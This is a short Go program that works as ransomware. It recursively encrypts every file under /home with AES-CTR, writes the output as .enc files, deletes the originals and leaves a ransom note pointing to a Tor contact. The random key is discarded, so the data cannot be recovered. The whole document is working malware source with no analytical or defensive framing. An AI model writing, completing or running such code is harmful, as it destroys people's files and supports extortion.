package main

import (
	"os"
	"path/filepath"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"strings"
)

func main() {
	key := make([]byte, 32)
	rand.Read(key)
	b, _ := aes.NewCipher(key)
	filepath.Walk("/home", func(p string, i os.FileInfo, e error) error {
		if e != nil || i.IsDir() || strings.HasSuffix(p, ".enc") {
			return nil
		}
		d, _ := os.ReadFile(p)
		iv := make([]byte, 16)
		rand.Read(iv)
		cipher.NewCTR(b, iv).XORKeyStream(d, d)
		os.WriteFile(p+".enc", append(iv, d...), 0600)
		os.Remove(p)
		return nil
	})
	os.WriteFile("/home/HOW_TO_DECRYPT.txt", []byte("contact us at tor..."), 0644)
}
